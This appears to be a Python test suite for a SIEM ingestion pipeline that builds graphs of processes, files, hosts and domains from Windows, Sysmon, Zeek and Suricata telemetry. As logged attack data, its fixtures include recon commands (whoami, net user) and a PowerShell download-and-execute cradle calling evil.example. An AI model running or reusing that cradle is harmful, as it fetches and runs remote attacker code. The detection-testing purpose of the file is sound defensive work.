"""Realistic telemetry variants, through the pipeline into each store (embedded and Neo4j).

Each case is a defect the variant-format audit found in the projection (its ids: H2, H3, M4,
M13, M15, L1, L4, L5), written as the records a sensor or agent sends, ingested with
:func:`ingest.pipeline.ingest_records` and read back from the store.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from graphsiem.model import Event, stable_hash
from ingest import projection_scripts
from ingest import replay as replay_module
from ingest.journal import Journal
from ingest.normalize import normalize_command_line
from ingest.pipeline import ingest_records
from ingest.projection import JOIN_STATE_VERSION, Projector
from ingest.replay import replay
from tests.reliability.snapshot import snapshot

_ZEEK = json.loads((Path(__file__).parent / "parsers" / "fixtures" / "zeek" / "records.json").read_text())
LEASE = {**_ZEEK["dhcp_lease"], "ts": 1709620000.0, "host_name": "ws-0042", "client_addr": "10.1.2.42",
         "assigned_addr": "10.1.2.42"}
"""ws-0042 holds 10.1.2.42 all day (a day-long lease from 06:26 UTC)."""


def ingest(store: Any, tmp_path: Path, records: list[dict[str, Any]], name: str = "journal") -> dict[str, Any]:
    """``records`` ingested in one call into ``store``; the stored graph (:func:`snapshot`)."""
    with Journal(tmp_path / f"{name}.sqlite") as journal:
        report = ingest_records(records, store=store, journal=journal, origin="api")
    assert report.total.accepted == len(records) and report.projected["errors"] == 0
    return snapshot(store)


def one_record_per_call(store: Any, tmp_path: Path, records: list[dict[str, Any]]) -> tuple[dict, dict]:
    """The graph of ``records`` ingested one per call (each call a new process, which reads the join
    state back from the journal), and the graph a replay of the journal rebuilds."""
    with Journal(tmp_path / "journal.sqlite") as journal:
        for record in records:
            replay_module._RESUMABLE.clear()
            assert ingest_records([record], store=store, journal=journal, origin="api").total.accepted == 1
        live = snapshot(store)
        replay(journal, store)
        return live, snapshot(store)


def edges(graph: dict[str, Any], type_: str) -> set:
    return {(src, dst) for src, kind, dst in graph["relations"] if kind == type_}


def process(image: str, command: str = "") -> tuple[str, str]:
    return ("process", stable_hash(image.lower(), normalize_command_line(command)))


def host(name: str) -> tuple[str, str]:
    return ("host", name)


def ip(text: str) -> tuple[str, str]:
    return ("ip", text)


def domain(name: str) -> tuple[str, str]:
    return ("domain", name)


def winlog(channel: str, event_id: int, record_id: int, when: str, data: dict[str, Any],
           computer: str = "WS-0043") -> dict[str, Any]:
    """A Winlogbeat record (``winlog.event_data``, as the audit's samples)."""
    return {"@timestamp": when, "winlog": {"channel": channel, "computer_name": computer,
                                           "event_id": str(event_id), "record_id": str(record_id),
                                           "event_data": data}}


SYSMON = "Microsoft-Windows-Sysmon/Operational"

# -- H2: 4688 chains follow the process that held the parent pid ---------------------------

PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
NET = "C:\\Windows\\System32\\net.exe"
NET1 = "C:\\Windows\\System32\\net1.exe"


def security_4688(record_id: int, when: str, pid: str, image: str, command: str, parent_pid: str,
                  parent_image: str | None) -> dict[str, Any]:
    data = {"SubjectUserName": "jdoe", "SubjectDomainName": "CORP", "NewProcessId": pid,
            "NewProcessName": image, "CommandLine": command, "ProcessId": parent_pid}
    if parent_image is not None:  # older Windows (before 10 / 2016) do not name the parent
        data["ParentProcessName"] = parent_image
    return winlog("Security", 4688, record_id, when, data)


CHAIN = [
    security_4688(1, "2024-03-05T10:20:00Z", "0x1e6c", CMD, "cmd.exe /c whoami", "0x1a2b", PS),
    security_4688(2, "2024-03-05T10:20:01Z", "0x1f00", NET, "net user", "0x1e6c", CMD),
    security_4688(3, "2024-03-05T10:20:02Z", "0x2010", NET1, "net1 user", "0x1f00", None),
]


def test_a_4688_chain_follows_the_process_that_held_each_parent_pid(store, tmp_path):
    graph = ingest(store, tmp_path, CHAIN)
    whoami, net, net1 = process(CMD, "cmd.exe /c whoami"), process(NET, "net user"), process(NET1, "net1 user")
    # powershell's own creation was not logged: it stays an image-only node
    assert edges(graph, "SPAWNED") == {(process(PS), whoami), (whoami, net), (net, net1)}
    assert process(CMD) not in graph["entities"]  # no fleet-wide image-only cmd.exe


def test_a_reused_pid_of_another_image_is_not_the_parent(store, tmp_path):
    """0x1e6c was cmd.exe's; explorer.exe's child with that parent pid an hour later is not its."""
    later = security_4688(4, "2024-03-05T11:20:00Z", "0x3000", "C:\\Windows\\notepad.exe", "notepad.exe a.txt",
                          "0x1e6c", "C:\\Windows\\explorer.exe")
    graph = ingest(store, tmp_path, [*CHAIN, later])
    notepad = process("C:\\Windows\\notepad.exe", "notepad.exe a.txt")
    assert {src for src, dst in edges(graph, "SPAWNED") if dst == notepad} == {process("C:\\Windows\\explorer.exe")}


def test_a_4688_chain_across_ingest_calls_is_the_replayed_graph(embedded_store, tmp_path):
    """The pid holders are join state: one record per call makes the graph one replay makes."""
    live, rebuilt = one_record_per_call(embedded_store, tmp_path, CHAIN)
    assert (process(CMD, "cmd.exe /c whoami"), process(NET, "net user")) in edges(live, "SPAWNED")
    for part in ("counts", "entities", "relations", "sightings"):
        assert live[part] == rebuilt[part], part


def test_a_join_state_of_version_3_is_not_read():
    """Version 3's pid holders had no image name, and its Zeek file ids name files by the older keys."""
    assert JOIN_STATE_VERSION == 7
    old = json.loads(Projector().join_state())
    old["version"] = 3
    old["_pids"] = [[["ws-1", "7"], [[1.0, ["process", "k"]]]]]
    assert Projector().restore_join_state(json.dumps(old).encode()) is False


# -- H3: files by their strongest digest before their name -----------------------------------

INVOICE_A = {"_path": "files", "ts": 1709633734.2, "fuid": "F1", "tx_hosts": ["203.0.113.7"],
             "rx_hosts": ["10.1.2.42"], "source": "HTTP", "mime_type": "application/pdf",
             "filename": "invoice.pdf", "is_orig": False, "md5": "ee23456789abcdef0123456789abcdef",
             "sha1": "ee1b2c3d4e5f60718293a4b5c6d7e8f901234567"}
INVOICE_B = {**INVOICE_A, "ts": 1709637334.2, "fuid": "F2", "tx_hosts": ["198.51.100.200"],
             "md5": "ff23456789abcdef0123456789abcdef", "sha1": "ff1b2c3d4e5f60718293a4b5c6d7e8f901234567"}
B_UNNAMED = {key: value for key, value in INVOICE_B.items() if key != "filename"} | {"fuid": "F3",
                                                                                      "ts": 1709640934.2}


def test_zeek_files_of_one_name_and_different_digests_stay_two_files(store, tmp_path):
    graph = ingest(store, tmp_path, [LEASE, INVOICE_A, INVOICE_B, B_UNNAMED])
    files = {key: value for key, value in graph["entities"].items() if key[0] == "file"}
    # older Zeek hashes with MD5 and SHA-1 only: SHA-1 is the key, and the unnamed copy of B is B
    assert set(files) == {("file", INVOICE_A["sha1"]), ("file", INVOICE_B["sha1"])}
    assert {files[key][0] for key in files} == {"invoice.pdf"}
    assert dict(files[("file", INVOICE_A["sha1"])][1])["md5"] == INVOICE_A["md5"]
    assert edges(graph, "DOWNLOADED") == {(host("ws-0042"), key) for key in files}
    assert graph["relations"][(host("ws-0042"), "DOWNLOADED", ("file", INVOICE_B["sha1"]))][0] == 2


def fileinfo(server: str, md5: str, flow_id: int) -> dict[str, Any]:
    """Suricata EVE fileinfo of a download of /dl/report.pdf from ``server`` (server-to-client packet)."""
    return {"timestamp": "2024-03-05T10:15:34.000000+0000", "flow_id": flow_id, "event_type": "fileinfo",
            "src_ip": server, "src_port": 80, "dest_ip": "10.1.2.42", "dest_port": 49152, "proto": "TCP",
            "http": {"hostname": "files.example", "url": "/dl/report.pdf", "http_content_type": "application/pdf"},
            "fileinfo": {"filename": "/dl/report.pdf", "state": "CLOSED", "stored": False, "size": 1024,
                         "md5": md5, "tx_id": 0}}


def test_suricata_files_of_one_url_path_from_two_servers_with_different_md5s_stay_two_files(store, tmp_path):
    graph = ingest(store, tmp_path, [fileinfo("203.0.113.7", "aa" * 16, 1), fileinfo("198.51.100.9", "bb" * 16, 2)])
    files = {key for key in graph["entities"] if key[0] == "file"}
    assert files == {("file", "aa" * 16), ("file", "bb" * 16)}


def image_load(record_id: int, when: str, md5: str) -> dict[str, Any]:
    return winlog(SYSMON, 7, record_id, when, {
        "UtcTime": when.replace("T", " ").rstrip("Z"), "ProcessGuid": "{8b5e4f1a-7c2d-65e6-1a02-000000001100}",
        "ProcessId": "7788", "Image": "C:\\Program Files\\App\\app.exe",
        "ImageLoaded": "C:\\Windows\\System32\\version.dll", "Hashes": f"MD5={md5.upper()}"})


def test_an_endpoint_dll_replaced_at_its_path_is_another_file(store, tmp_path):
    """Sysmon hashing with MD5 only: the same path with another content (a DLL hijack) is not merged."""
    graph = ingest(store, tmp_path, [image_load(1, "2024-03-05T10:00:00Z", "11" * 16),
                                     image_load(2, "2024-03-05T11:00:00Z", "22" * 16)])
    loaded = {dst for _, dst in edges(graph, "LOADED")}
    assert loaded == {("file", "11" * 16), ("file", "22" * 16)}
    assert {graph["entities"][ref][0] for ref in loaded} == {"C:\\Windows\\System32\\version.dll"}


# -- M4 and L5: uploads, and records that do not say the direction ---------------------------

UPLOAD = {"_path": "files", "ts": 1709633800.0, "fuid": "FU1", "uid": "CU1", "id.orig_h": "10.1.2.42",
          "id.orig_p": 49200, "id.resp_h": "203.0.113.66", "id.resp_p": 443, "source": "HTTP", "is_orig": True,
          "seen_bytes": 7340032, "mime_type": "application/zip", "filename": "q1-finance.zip",
          "sha256": "5e" * 32}


def test_an_upload_is_uploaded_by_the_client_host_that_sent_it(store, tmp_path):
    graph = ingest(store, tmp_path, [LEASE, UPLOAD])
    file = ("file", "5e" * 32)
    assert edges(graph, "UPLOADED") == {(host("ws-0042"), file)}
    assert edges(graph, "DOWNLOADED") == set()  # the server that received it is no host of ours
    assert (host("ws-0042"), ip("203.0.113.66")) in edges(graph, "CONNECTED")
    assert ("ws-0042", file) in graph["sightings"]


def test_an_upload_from_an_unmapped_address_is_uploaded_by_the_address(store, tmp_path):
    graph = ingest(store, tmp_path, [UPLOAD])
    assert edges(graph, "UPLOADED") == {(ip("10.1.2.42"), ("file", "5e" * 32))}


def test_a_files_record_that_does_not_say_its_direction_connects_no_one(store, tmp_path):
    """tx_hosts/rx_hosts without is_orig: the receiver downloaded it, but which side opened the
    connection is not said, so no CONNECTED (it pointed from the server to its client)."""
    record = {key: value for key, value in INVOICE_A.items() if key != "is_orig"}
    graph = ingest(store, tmp_path, [LEASE, record])
    ends = {host("ws-0042"), ip("10.1.2.42"), ip("203.0.113.7")}
    assert {pair for pair in edges(graph, "CONNECTED") if set(pair) <= ends} == set()
    assert edges(graph, "DOWNLOADED") == {(host("ws-0042"), ("file", INVOICE_A["sha1"]))}
    assert edges(graph, "UPLOADED") == set()


# -- L4: no relation names the unspecified or the broadcast address --------------------------

def test_dhcp_broadcasts_relate_no_addresses(store, tmp_path):
    conn = {"_path": "conn", "ts": 1709619000.0, "uid": "CD1", "id.orig_h": "0.0.0.0", "id.orig_p": 68,
            "id.resp_h": "255.255.255.255", "id.resp_p": 67, "proto": "udp", "service": "dhcp"}
    eve = {"timestamp": "2024-03-05T09:00:00.000000+0000", "flow_id": 1, "event_type": "flow",
           "src_ip": "0.0.0.0", "src_port": 68, "dest_ip": "255.255.255.255", "dest_port": 67, "proto": "UDP",
           "app_proto": "dhcp"}
    graph = ingest(store, tmp_path, [conn, eve])
    assert graph["relations"] == {}
    assert not {key for key in graph["entities"] if key in (ip("0.0.0.0"), ip("255.255.255.255"))}


# -- M13: network logons relate where they came from -----------------------------------------

def logon(event_id: int, record_id: int, address: str, workstation: str, logon_type: int = 3) -> dict[str, Any]:
    data = {"TargetUserName": "jdoe", "TargetDomainName": "CORP", "LogonType": str(logon_type),
            "IpAddress": address, "IpPort": "50123", "WorkstationName": workstation,
            "ProcessName": "-", "ProcessId": "0x0"}
    if event_id == 4625:
        data |= {"Status": "0xC000006D", "SubStatus": "0xC000006A"}
    return winlog("Security", event_id, record_id, "2024-03-05T10:40:00Z", data, computer="SRV-01.corp.example.com")


def test_a_network_logon_relates_its_source_address_and_workstation_to_the_target(store, tmp_path):
    graph = ingest(store, tmp_path, [logon(4624, 1, "10.1.2.42", "WS-0042"),
                                     logon(4625, 2, "203.0.113.9", "KALI"),
                                     logon(4624, 3, "127.0.0.1", "SRV-01", logon_type=2)])
    target = host("srv-01")
    assert edges(graph, "LOGGED_ON") == {(("user", "corp\\jdoe"), target), (ip("10.1.2.42"), target),
                                         (host("ws-0042"), target)}
    # a failed logon reached the host but logged on to nothing
    assert edges(graph, "CONNECTED") == {(ip("203.0.113.9"), target), (host("kali"), target)}
    assert ("srv-01", ip("127.0.0.1")) in graph["sightings"]  # the local logon's address, sighted as before


# -- M15: the CNAME chain --------------------------------------------------------------------

def test_a_cname_chain_is_kept_as_domains_that_resolve_to_each_other(store, tmp_path):
    query = winlog(SYSMON, 22, 1, "2024-03-05T10:15:31Z", {
        "UtcTime": "2024-03-05 10:15:31.000", "ProcessGuid": "{8b5e4f1a-7c2d-65e6-1a02-000000001100}",
        "ProcessId": "7788", "QueryName": "www.rare-app.example", "QueryStatus": "0",
        "QueryResults": "type:  5 rare-app.cdn.example;type:  5 e7.cdn.example;::ffff:203.0.113.70;",
        "Image": PS}, computer="WS-0042")
    graph = ingest(store, tmp_path, [query])
    resolves = edges(graph, "RESOLVES_TO")
    assert resolves == {
        (domain("www.rare-app.example"), domain("rare-app.cdn.example")),
        (domain("rare-app.cdn.example"), domain("e7.cdn.example")),
        (domain("e7.cdn.example"), ip("203.0.113.70")),
        (domain("www.rare-app.example"), ip("203.0.113.70")),  # the name asked for, as before
    }
    assert {("ws-0042", domain("e7.cdn.example")), ("ws-0042", domain("rare-app.cdn.example"))} <= set(
        graph["sightings"])


def test_a_one_label_answer_is_no_cname():
    """An ECS answer object without data reaches the projection as the text "None" (audit M14)."""
    event = Event(id="e1", kind="ecs:event", ts=1.0, host="ws-1", source="test",
                  fields={"dns.question.name": "a.example", "dns.answers": ["None", "203.0.113.5"]})
    projection = Projector().project([event])
    assert {(r.src, r.dst) for r in projection.relations if r.type == "RESOLVES_TO"} == {
        (domain("a.example"), ip("203.0.113.5"))}


def test_the_names_answering_a_reverse_lookup_are_no_cname_chain(store, tmp_path):
    ptr = {**_ZEEK["dns_answers"], "query": "9.113.0.203.in-addr.arpa", "qtype_name": "PTR",
           "answers": ["mail.example.net"]}
    mx = {**_ZEEK["dns_answers"], "uid": "CJ4", "query": "example.net", "qtype_name": "MX",
          "answers": ["mx1.example.net"]}
    graph = ingest(store, tmp_path, [ptr, mx])
    assert edges(graph, "RESOLVES_TO") == set()


# -- L1: inbound connections point from the peer ---------------------------------------------

def test_an_inbound_sysmon_connection_is_from_the_peer_to_the_host_and_its_process(store, tmp_path):
    inbound = winlog(SYSMON, 3, 1, "2024-03-05T10:30:00Z", {
        "UtcTime": "2024-03-05 10:30:00.000", "ProcessGuid": "{8b5e4f1a-7c2d-65e6-1a02-000000002200}",
        "ProcessId": "1020", "Image": "C:\\Windows\\System32\\svchost.exe", "Protocol": "tcp",
        "Initiated": "false", "SourceIp": "10.1.9.9", "SourcePort": "51000", "DestinationIp": "10.1.2.43",
        "DestinationPort": "3389"})
    graph = ingest(store, tmp_path, [inbound])
    svchost = process("C:\\Windows\\System32\\svchost.exe")
    assert edges(graph, "CONNECTED") == {(ip("10.1.9.9"), host("ws-0043")), (ip("10.1.9.9"), svchost)}


# -- M3: a block logged in parts is also one script of its whole text -------------------------

BLOCK_ID = "{4a1b2c3d-0000-4000-8000-00000000abcd}"
WHOLE = "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://evil.example/stage2.ps1')"
PARTS = [WHOLE[:20], WHOLE[20:50], WHOLE[50:]]  # cut anywhere, as PowerShell cuts ~32 KB parts


def script_part(number: int, record_id: int, host_name: str = "WS-0042") -> dict[str, Any]:
    return winlog("Microsoft-Windows-PowerShell/Operational", 4104, record_id,
                  f"2024-03-05T10:55:0{number}Z",
                  {"MessageNumber": str(number), "MessageTotal": str(len(PARTS)),
                   "ScriptBlockText": PARTS[number - 1], "ScriptBlockId": BLOCK_ID}, computer=host_name)


def test_the_parts_of_a_long_script_block_are_also_one_script_of_the_whole_text(store, tmp_path):
    graph = ingest(store, tmp_path, [script_part(n, n) for n in (1, 3, 2)])  # in any order
    scripts = {key: value for key, value in graph["entities"].items() if key[0] == "script"}
    (whole,) = [key for key, (_, props) in scripts.items() if dict(props).get("parts") == 3]
    assert dict(scripts[whole][1])["text"] == WHOLE
    assert len(scripts) == 4  # each part stays a script of its own: a lost part loses no other
    assert (host("ws-0042"), whole) in edges(graph, "EXECUTED")
    # the text across a cut ("DownloadString" is split between parts 2 and 3) is found
    assert [hit.entity.key for hit in store.search_entities("DownloadString", entity_type="script")] == [whole[1]]


def test_a_script_block_missing_a_part_is_not_joined(store, tmp_path):
    graph = ingest(store, tmp_path, [script_part(1, 1), script_part(3, 3),
                                     script_part(2, 4, host_name="WS-0043")])  # part 2 on another host
    assert not [props for key, (_, props) in graph["entities"].items() if key[0] == "script" and
                dict(props).get("parts")]


def test_the_parts_of_a_script_block_across_ingest_calls_join_as_in_a_replay(embedded_store, tmp_path):
    live, rebuilt = one_record_per_call(embedded_store, tmp_path, [script_part(n, n) for n in (1, 2, 3)])
    assert [key for key, (_, props) in live["entities"].items() if dict(props).get("parts") == 3]
    for part in ("counts", "entities", "relations", "sightings"):
        assert live[part] == rebuilt[part], part


# -- the review of the join: bounds that degrade one block at a time -----------------------------

def test_more_blocks_waiting_than_the_limit_still_join_the_ones_kept(monkeypatch):
    """A fleet-wide script in two parts, read as every host's part 1, then every part 2.

    Dropping the older half when full, and storing each part 2 whose part 1 was dropped as a
    new block, joined nothing once more blocks waited than the limit (0 of 66 with 64).
    """
    monkeypatch.setattr(projection_scripts, "_SCRIPT_BLOCKS_LIMIT", 8)
    hosts = [f"ws-{n:04d}" for n in range(12)]

    def part(number: int, host_name: str) -> Event:
        return Event(id=f"{host_name}-{number}", kind="powershell:script_block", ts=1709632800.0 + number,
                     host=host_name, source="test", fields={
                         "powershell.script_block_text": ("A" * 10, "B" * 10)[number - 1],
                         "powershell.script_block_id": "{same-block-everywhere}",
                         "powershell.message_number": number, "powershell.message_total": 2})

    events = [part(1, name) for name in hosts] + [part(2, name) for name in hosts]
    projection = Projector().project(events)
    whole = [e.key for e in projection.entities if e.type == "script" and e.props.get("parts") == 2]
    assert len(whole) == 1  # the same script on every host: one node
    joined = {s.host for s in projection.sightings if s.entity == ("script", whole[0])}
    # the last 8 hosts' first parts were kept and joined; the first 4 were dropped
    assert joined == set(hosts[4:])


def test_the_waiting_parts_are_bounded_in_characters(monkeypatch):
    monkeypatch.setattr(projection_scripts, "_SCRIPT_WAITING_CHARS", 25)
    projector = Projector()
    for n in range(5):
        projector.project([Event(id=f"b{n}", kind="powershell:script_block", ts=1709632800.0 + n, host="ws-1",
                                 source="test", fields={"powershell.script_block_text": "x" * 10,
                                                        "powershell.script_block_id": f"{{block-{n}}}",
                                                        "powershell.message_number": 1,
                                                        "powershell.message_total": 2})])
    held = projector._script_parts
    assert sum(len(text) for _, items in held.values() for _, text in items) <= 25
    assert list(held) == [("ws-1", "{block-3}"), ("ws-1", "{block-4}")]  # the most recent ones


def test_a_blank_or_local_workstation_names_no_other_machine(store, tmp_path):
    graph = ingest(store, tmp_path, [logon(4624, 1, "10.1.2.42", " "),
                                     logon(4625, 2, "::1", "localhost")])
    assert all(src[0] != "host" or src[1] not in ("", " ", "localhost")
               for src, _ in edges(graph, "LOGGED_ON") | edges(graph, "CONNECTED"))


def test_a_process_is_never_its_own_parent(store, tmp_path):
    crafted = security_4688(1, "2024-03-05T10:20:00Z", "0x1e6c", CMD, "cmd.exe /c whoami", "0x1e6c", CMD)
    graph = ingest(store, tmp_path, [crafted])
    assert all(src != dst for src, dst in edges(graph, "SPAWNED"))
